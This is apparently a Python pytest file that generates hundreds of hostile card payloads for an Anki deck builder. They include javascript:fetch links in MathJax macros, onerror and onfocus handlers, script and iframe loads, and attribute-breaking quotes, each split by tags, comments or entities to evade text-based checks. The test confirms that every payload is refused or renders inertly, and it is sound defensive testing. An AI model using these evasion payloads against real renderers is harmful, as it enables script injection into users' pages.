"""Issue 28: hostile content generated, not listed, and judged as Anki shows it.

A list of payloads tests the payloads someone thought of. Here every dangerous part — a
MathJax macro that links, styles or loads, Anki's sound, speech and LaTeX markup, an
element or attribute that runs or loads, a quote that would end an attribute Anki
writes, Anki's own image-occlusion syntax — is cut by every kind of splitter — a tag, a
comment, Markdown emphasis, a link or code, an entity, a line break, a cloze deletion or
its hint — at the places where a cut hides it from a check that reads the text as
written, and put into every text field of a case and of a fact. Anki then rewrites the
text before the page sees it (the cloze filter removes the tags inside math, puts hints
in brackets, copies deletions into attributes; the card's script copies the right
option into the verdict; MathJax typesets), so the payloads are judged there:

* each is either refused by ``deckbuilder check`` at ``file:line:col`` (a real process),
  or built into the deck;
* the built deck is imported with the ``anki`` package (no sound, TTS or LaTeX found in
  any card) and every card shown, front and back, in the real Anki desktop app after
  MathJax has typeset it, in Chromium at phone size with each side loaded as a page of
  its own with Anki's own MathJax (AnkiDroid's engine), and in WebKit at iPhone size
  in one page whose card is swapped as Anki's reviewer swaps it, with the same MathJax
  (AnkiMobile's engine family);
* every side passes the DOM audit of :mod:`tests.support.cardaudit`, no request leaves the
  cards' origin, no dialog opens, and a local HTTP server that every payload's address
  points at receives nothing.

The payloads are drawn from a fixed seed, so a finding is reproducible: its name says
which part, splitter and field made it.
"""

from __future__ import annotations

import json
import random
import re
import shutil
import threading
from collections import Counter, defaultdict
from collections.abc import Iterator
from dataclasses import dataclass
from html.parser import HTMLParser
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from itertools import cycle
from pathlib import Path
from typing import ClassVar

import pytest

from tests.support.ankiengine import collection, import_apkg
from tests.support.cardaudit import AUDIT, audit_in_chromium, engine_sides
from tests.support.paths import REPO
from tests.support.process import deckbuilder

FIXTURES = REPO / "tests" / "fixtures"
SEED = 28
CUT = "{CUT}"  # where a splitter may cut a part; never left in a payload

# The dangerous parts. "{url}" becomes the address of the sink server; CUT marks the
# places where a cut hides the part from a check that reads the text as written.
MATH_COMMANDS = [
    r"\href{javascript:fetch('{url}/href')}{CLICK}",
    r"\style{background-image:url({url}/style)}{X}",
    r"\bbox[background-image:url({url}/bbox)]{X}",
    r"\htmlStyle{background-image:url({url}/htmlstyle)}{X}",
    r"\class{db-card}{X}",
    r"\cssId{qa}{X}",
    r"\unicode{x41}",
    r"\require{html}\htmlData{x=1}{X}",
    r"\url{{url}/url}",
    r"\def\x{\href{javascript:fetch('{url}/def')}{X}}\x",
    r"\texttip{X}{tip}",
    r"\color{red}{X}",
    r"x [{CUT}sound:evil.mp3] y",
    r"x [{CUT}anki:tts lang=en_US]hi[/anki:tts] y",
    r"x [{CUT}latex]y[/latex]",
]
# Delimiters as the Markdown source writes them: "\\(" is "\(" in the HTML. A cut inside
# a delimiter hides it from MathJax where it stands, but not once the tags are gone (a
# script's copy as text); a cut just inside it hides the command from a check that reads
# runs of text, but not from MathJax once Anki's cloze filter has removed the tags there.
DELIMITERS = [
    ("\\\\{CUT}({CUT}", "{CUT}\\\\{CUT})"),
    ("\\\\{CUT}[{CUT}", "{CUT}\\\\{CUT}]"),
    ("&#92;{CUT}({CUT}", "{CUT}&#92;{CUT})"),
    ("\\\\({CUT}", "{CUT}\\\\]"),  # Anki's cloze filter closes "\(" with "\]" as well
    (r"\begin{aligned}{CUT}", r"{CUT}\end{aligned}"),
]
OTHER_PARTS = [
    "[{CUT}sound:evil.mp3]",
    "[sound:{url}/{CUT}s.mp3]",
    "[{CUT}anki:tts lang=en_US]hi[/anki:tts]",
    "[{CUT}latex]x^2[/latex]",
    "[{CUT}$]x[/$] [{CUT}$$]y[/$$]",
    "[{CUT}anki:play:q:0]",
    '<img src="{url}/img">',
    "<img src=x on{CUT}error=\"fetch('{url}/onerror')\">",
    "<a href=\"java{CUT}script:fetch('{url}/a')\">X</a>",
    "[X](java{CUT}script:fetch('{url}/md'))",
    '<svg onload="fetch(\'{url}/svg\')"><circle r="1"/></svg>',
    '<iframe src="{url}/iframe"></iframe>',
    '<script src="{url}/script"></script>',
    '<link rel="stylesheet" href="{url}/link">',
    '<div style="background:url({url}/style)">X</div>',
    '<video poster="{url}/poster"></video>',
    '<object data="{url}/object"></object>',
    '<form action="{url}/form"><button>go</button></form>',
    '<a href="{url}/\\{CUT}(\\href{javascript:x}{y}\\)">address</a>',
    '"{CUT} autofocus tabindex="1" onfocus="fetch(\'{url}/quote\')" x="',
    "'{CUT} autofocus tabindex='1' onfocus='fetch(1)' x='",
    '{{c1::image-{CUT}occlusion:rect:left=.1" tabindex="1" autofocus '
    'onfocus="fetch(\'{url}/io\')" x="}}',
]
PARTS = [
    (f"math{i}-{j}", f"A {open_}{command}{close} b")
    for i, command in enumerate(MATH_COMMANDS)
    for j, (open_, close) in enumerate(DELIMITERS)
] + [(f"part{i}", part) for i, part in enumerate(OTHER_PARTS)]

SPLITTERS = {
    "none": "",
    "bold": "<b></b>",
    "span": "<span></span>",
    "sub": "<sub></sub>",
    "comment": "<!-- -->",
    "br": "<br>",
    "wbr": "<wbr>",
    "emphasis": "*e*",
    "strong": "**e**",
    "underscore": "_e_",
    "link": "[l](http://a.test)",
    "code": "`c`",
    "newline": "\n",
    "hard-break": "  \n",
    "paragraph": "\n\n",
    "entity": "&#8203;",
    "deletion": "{{c2::z}}",  # a deletion of its own in the middle
}
FIELDS = [
    "case",
    "title",
    "question",
    "option",  # the right answer: its text is copied into the verdict on the back
    "critique",
    "discussion",
    "explanation",
    "caption",
    "source",
    "attribution",
    "fact",  # the sentence of a fact, beside a deletion
    "fact-deletion",  # inside a deletion (the cut part starts it)
    "fact-hint",  # in a deletion's hint, which Anki shows in brackets on the front
    "fact-extra",
    "statement",  # a Kprim statement
    "statement-explanation",
]


@dataclass(frozen=True)
class Payload:
    name: str
    part: str
    splitter: str
    field: str
    text: str


# Where Anki or the card's script rewrites the text before the page sees it.
REWRITTEN = ["option", "fact", "fact-deletion", "fact-hint"]


def _cut(part: str, splitter: str, rng: random.Random) -> str:
    """The part with the splitter at some of its cuts (at least one, each drawn)."""
    pieces = part.split(CUT)
    if len(pieces) == 1:
        return part
    cuts = [rng.random() < 0.5 for _ in pieces[1:]]
    cuts[rng.randrange(len(cuts))] = True
    return pieces[0] + "".join(
        (splitter if cut else "") + piece for cut, piece in zip(cuts, pieces[1:], strict=True)
    )


def generate(url: str, seed: int = SEED) -> list[Payload]:
    """Every part cut by every splitter, in a field that Anki or the card's script rewrites
    and in one of the others by turns, the fields of each kind taken in turn; the cuts
    drawn from a fixed seed."""
    rng = random.Random(seed)
    turns = (cycle(REWRITTEN), cycle(field for field in FIELDS if field not in REWRITTEN))
    payloads = []
    for part_name, part in PARTS:
        for splitter, cut in SPLITTERS.items():
            field = next(turns[len(payloads) % 2])
            text = _cut(part.replace("{url}", url), cut, rng)
            name = f"p{len(payloads):04d} {part_name} cut by {splitter} in {field}"
            payloads.append(Payload(name, part_name, splitter, field, text))
    return payloads


def _base_case(case_id: str) -> dict:
    return {
        "id": case_id,
        "title": f"Case {case_id}",
        "case": "A vignette.",
        "questions": [
            {
                "id": "q1",
                "question": "Q?",
                "options": {"A": "a", "B": "b"},
                "answer": "B",
                "critique": "Because.",
            }
        ],
    }


def _place(case: dict, payload: Payload, fact_id: str) -> None:
    """Put the payload where its field says, in a case made by :func:`_base_case`."""
    question = case["questions"][0]
    field, text = payload.field, payload.text
    if field in ("question", "critique"):
        question[field] = text
    elif field == "option":
        question["options"]["B"] = text
    elif field == "explanation":
        question["explanations"] = {"B": text}
    elif field == "caption":
        case["figures"] = [{"caption": text, "image": "red.png"}]
    elif field.startswith("statement"):
        kprim = next((q for q in case["questions"] if q.get("kind") == "kprim"), None)
        if kprim is None:
            statements = [
                {"text": f"S{n}.", "answer": "true" if n % 2 else "false"} for n in range(4)
            ]
            kprim = {"id": "q2", "kind": "kprim", "question": "Which?", "statements": statements}
            case["questions"].append(kprim)
        key = "text" if field == "statement" else "explanation"
        kprim["statements"][1 if key == "text" else 2][key] = text
    elif field.startswith("fact"):
        sentence = {
            "fact": f"A {{{{c1::word}}}} and {text}",
            "fact-deletion": f"A {{{{c1::{text}}}}} b",
            "fact-hint": f"A {{{{c1::word::{text}}}}} b",
            "fact-extra": "A {{c1::fact}} here.",
        }[field]
        fact = {"id": fact_id, "text": sentence}
        if field == "fact-extra":
            fact["extra"] = text
        case.setdefault("facts", []).append(fact)
    else:
        case[field] = text


def _content(folder: Path, cases: list[dict]) -> Path:
    (folder / "cases").mkdir(parents=True)
    (folder / "deck.yaml").write_text(
        json.dumps({"name": "Generated hostile", "id": "generated-hostile"}), encoding="utf-8"
    )
    shutil.copy(FIXTURES / "red.png", folder / "cases" / "red.png")
    for case in cases:
        # JSON is YAML: every payload reaches the loader exactly as generated.
        text = json.dumps(case, ensure_ascii=False, indent=2)
        (folder / "cases" / f"{case['id']}.yaml").write_text(text, encoding="utf-8")
    return folder


class _Sink(BaseHTTPRequestHandler):
    """Records every request; a card that reaches it has loaded something."""

    requests: ClassVar[list[str]] = []

    def _record(self) -> None:
        self.requests.append(f"{self.command} {self.path}")
        self.send_response(204)
        self.end_headers()

    do_GET = do_POST = do_HEAD = do_OPTIONS = _record

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def sink() -> Iterator[tuple[str, list[str]]]:
    """A local HTTP server every payload's address points at: its log must stay empty."""
    requests: list[str] = []
    handler = type("Sink", (_Sink,), {"requests": requests})
    server = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", requests
    finally:
        server.shutdown()
        server.server_close()


@dataclass(frozen=True)
class Generated:
    payloads: list[Payload]
    refused: dict[str, list[dict]]  # payload name -> its problems
    built: list[Payload]
    apkg: Path
    cards: dict[int, str]  # card id -> the payloads of its note, as one label
    av_tags: dict[int, list[str]]
    latex: list[int]  # cards whose rendering asks for a LaTeX image
    description: str


@pytest.fixture(scope="module")
def generated(sink, tmp_path_factory: pytest.TempPathFactory) -> Generated:
    url, _ = sink
    tmp = tmp_path_factory.mktemp("generated")
    payloads = generate(url)

    # Each payload alone in a case: which does check refuse, and where?
    cases = []
    for i, payload in enumerate(payloads):
        case = _base_case(f"g{i:03d}")
        _place(case, payload, "f")
        cases.append(case)
    _content(tmp / "screen", cases)
    run = deckbuilder("check", "--json", "screen", cwd=tmp, timeout=120)
    assert run.returncode in (0, 1) and "Traceback" not in run.stderr, run.stderr
    problems = json.loads(run.stdout).get("problems", [])
    by_file: dict[str, list[dict]] = defaultdict(list)
    for problem in problems:
        by_file[problem["file"]].append(problem)
    refused = {
        p.name: by_file[f"screen/cases/g{i:03d}.yaml"]
        for i, p in enumerate(payloads)
        if f"screen/cases/g{i:03d}.yaml" in by_file
    }
    assert set(by_file) <= {f"screen/cases/g{i:03d}.yaml" for i in range(len(payloads))}
    built = [p for p in payloads if p.name not in refused]

    # The rest packed into one deck: one payload of each field per case, so a card
    # carries several at once.
    buckets: dict[str, list[Payload]] = defaultdict(list)
    for payload in built:
        buckets[payload.field].append(payload)
    packed: list[dict] = []
    labels: dict[str, list[str]] = {}
    while any(buckets.values()):
        case = _base_case(f"h{len(packed):03d}")
        names = []
        for field in FIELDS:
            if buckets[field]:
                payload = buckets[field].pop()
                _place(case, payload, f"f{len(names)}")
                names.append(payload.name)
        labels[case["id"]] = names
        packed.append(case)
    content = _content(tmp / "content", packed)
    run = deckbuilder("build", "content", "-o", "dist", cwd=tmp, timeout=300)
    assert run.returncode == 0, run.stderr[-3000:]
    apkg = tmp / "dist" / "generated-hostile.apkg"
    assert content.is_dir() and apkg.is_file()

    cards, av, latex = {}, {}, []
    with collection(tmp / "c.anki2") as col:
        import_apkg(col, apkg)
        for cid in col.find_cards(""):
            card = col.get_card(cid)
            case_id = card.note()["Ref"].split("/")[0]
            cards[cid] = f"{case_id}: {', '.join(labels[case_id])}"
            av[cid] = [str(t) for t in card.question_av_tags() + card.answer_av_tags()]
            if "latex-" in card.question() + card.answer():
                latex.append(cid)
        deck = col.decks.by_name("Generated hostile")
        assert deck is not None
        description = deck["desc"]
    return Generated(payloads, refused, built, apkg, cards, av, latex, description)


def test_the_generator_covers_every_part_splitter_and_field() -> None:
    payloads = generate("http://127.0.0.1:9")
    assert len(payloads) >= 500
    assert set(Counter(p.part for p in payloads)) == {name for name, _ in PARTS}
    assert {p.splitter for p in payloads} == set(SPLITTERS)
    assert {p.field for p in payloads} == set(FIELDS)
    assert all(CUT not in p.text for p in payloads)
    assert all("{url}" not in p.text for p in payloads)
    assert generate("http://127.0.0.1:9") == payloads  # reproducible


def test_every_payload_is_refused_where_it_stands_or_built(generated: Generated) -> None:
    assert len(generated.refused) + len(generated.built) == len(generated.payloads)
    for name, problems in generated.refused.items():
        for problem in problems:
            assert isinstance(problem["line"], int) and problem["line"] > 0, (name, problem)
            assert isinstance(problem["column"], int) and problem["column"] > 0, (name, problem)
            assert problem["key"] and problem["message"], (name, problem)
    # Both outcomes are exercised in earnest: most payloads reach the engines.
    assert len(generated.built) >= 500, len(generated.built)
    assert len(generated.refused) >= 50, len(generated.refused)


def test_the_engine_finds_no_sound_speech_or_latex(generated: Generated) -> None:
    assert {cid: tags for cid, tags in generated.av_tags.items() if tags} == {}
    assert [generated.cards[cid] for cid in generated.latex] == []


class _Description(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("script", "img", "iframe", "object", "embed", "link", "style", "svg"):
            self.bad.append(tag)
        for name, _ in attrs:
            if name.startswith("on") or name in ("src", "href", "style", "action"):
                self.bad.append(f"{tag} {name}")


def test_the_deck_description_holds_nothing_that_runs_or_loads(generated: Generated) -> None:
    parser = _Description()
    parser.feed(generated.description)
    assert parser.bad == []
    assert not re.search(r"\[(?:sound:|anki:|latex\]|\$)", generated.description)


def _clean(audit: dict, where: str) -> None:
    assert audit["card"], (where, audit["text"])  # the page was not replaced
    assert audit["bad"] == [], (where, audit["bad"])


@pytest.mark.desktop
def test_no_generated_card_runs_loads_or_plays_in_anki_desktop(
    generated: Generated, sink, tmp_path: Path
) -> None:
    from tests.support.desktop import (
        CardPlan,
        Eval,
        ShowAnswer,
        ShowQuestion,
        run_anki_desktop,
        skip_or_fail_if_unavailable,
    )

    skip_or_fail_if_unavailable()
    plans = [
        CardPlan(cid, [ShowQuestion(), Eval(AUDIT, "front"), ShowAnswer(), Eval(AUDIT, "back")])
        for cid in sorted(generated.cards)
    ]
    run = run_anki_desktop(generated.apkg, tmp_path, plans, timeout=900)
    assert len(run.cards) == len(generated.cards)
    for card in run.cards:
        for side in ("front", "back"):
            _clean(card.values[side], f"{generated.cards[card.cid]} ({side})")
        assert card.question_av_tags == [] and card.answer_av_tags == []
    assert sum(card.values["back"]["typeset"] for card in run.cards) > 0  # MathJax ran
    assert sink[1] == []


def _mathjax_files() -> Path:
    import _aqt

    return Path(next(iter(_aqt.__path__))).resolve() / "data" / "web" / "js"


# What Anki's reviewer loads for MathJax: its configuration, then MathJax itself, from
# the `aqt` package's own copy; the reviewer typesets each card once it is shown.
MATHJAX_HEAD = (
    '<script src="/_anki/js/mathjax.js"></script>'
    '<script src="/_anki/js/vendor/mathjax/tex-chtml-full.js"></script>'
)
TYPESET = (
    "MathJax.startup.promise.then(() => MathJax.typesetPromise([document.getElementById('qa')]))"
    ".then(() => document.querySelectorAll('#qa mjx-container').length)"
)


@pytest.mark.browser
def test_no_generated_card_runs_or_loads_in_chromium_as_on_a_phone(
    generated: Generated, sink, tmp_path: Path
) -> None:
    """Each side as a page of its own (AnkiDroid loads the back as a new page), with
    Anki's own MathJax served from the cards' origin and run as the reviewer runs it."""
    pages, media = engine_sides(generated.apkg, sorted(generated.cards), tmp_path)
    pages = {
        path: page.replace("</head>", MATHJAX_HEAD + "</head>") for path, page in pages.items()
    }
    seen = audit_in_chromium(pages, media, scripts=_mathjax_files(), before_audit=TYPESET)
    audits, outside, dialogs, errors = seen.audits, seen.outside, seen.dialogs, seen.errors
    typeset = sum(seen.before.values())  # formulas typeset, per page
    assert len(audits) == 2 * len(generated.cards)
    for path, audit in audits.items():
        _clean(audit, f"{generated.cards[int(path.split('/')[1])]} ({path})")
    assert typeset > 0  # MathJax ran
    assert outside == [] and dialogs == [] and errors == []
    assert sink[1] == []


# Anki's reviewer keeps one page and puts each side into #qa, re-creating its scripts so
# that they run; then MathJax typesets it. AnkiMobile works the same way.
SWAP = r"""(async () => {
  const qa = document.getElementById("qa");
  qa.innerHTML = __SIDE__;
  for (const old of Array.from(qa.querySelectorAll("script"))) {
    const fresh = document.createElement("script");
    fresh.textContent = old.textContent;
    old.replaceWith(fresh);
  }
  await MathJax.startup.promise;
  await MathJax.typesetPromise([qa]);
  const audit = __AUDIT__;
  audit.typeset = qa.querySelectorAll("mjx-container").length;
  return audit;
})()"""


@pytest.mark.webkit
def test_no_generated_card_runs_or_loads_in_webkit_as_on_an_iphone(
    generated: Generated, sink, tmp_path: Path
) -> None:
    from deckbuilder.authoring.preview import side_document
    from tests.support.webkit import ORIGIN, PagePlan, run_webkit
    from tests.support.webkit import Eval as WebKitEval
    from tests.support.webkit import skip_or_fail_if_unavailable as webkit_unavailable

    webkit_unavailable()
    js = _mathjax_files()
    # WebKit's origin is made up and answers nothing: MathJax goes into the page itself
    # (neither file holds "</script", which would end its element early).
    scripts = [
        (js / name).read_text(encoding="utf-8")
        for name in ("mathjax.js", "vendor/mathjax/tex-chtml-full.js")
    ]
    assert not any("</script" in script.lower() for script in scripts)
    mathjax = "".join(f"<script>{script}</script>" for script in scripts)
    sides = []
    with collection(tmp_path / "sides.anki2") as col:
        import_apkg(col, generated.apkg)
        for cid in sorted(generated.cards):
            card = col.get_card(cid)
            sides += [(f"/{cid}/front", card.question()), (f"/{cid}/back", card.answer())]
    steps = [
        WebKitEval(SWAP.replace("__AUDIT__", AUDIT).replace("__SIDE__", json.dumps(body)), path)
        for path, body in sides
    ]
    page = side_document("", "").replace("</head>", mathjax + "</head>")
    run = run_webkit([PagePlan(page, steps, name="reviewer")], timeout=900, work=tmp_path)
    values = run.pages[0].values
    assert len(values) == len(sides)
    for path, audit in values.items():
        _clean(audit, f"{generated.cards[int(path.split('/')[1])]} ({path})")
    assert sum(audit["typeset"] for audit in values.values()) > 0  # MathJax ran
    assert run.pages[0].errors() == [], run.pages[0].console[:20]
    asked = run.pages[0].requests + run.pages[0].failed_resources
    assert all(url.startswith(ORIGIN) for url in asked), asked
    assert {line for line in run.network if line.split()[1] != "cards.test:443"} == set()
    assert run.blocked_navigations == []
    assert sink[1] == []
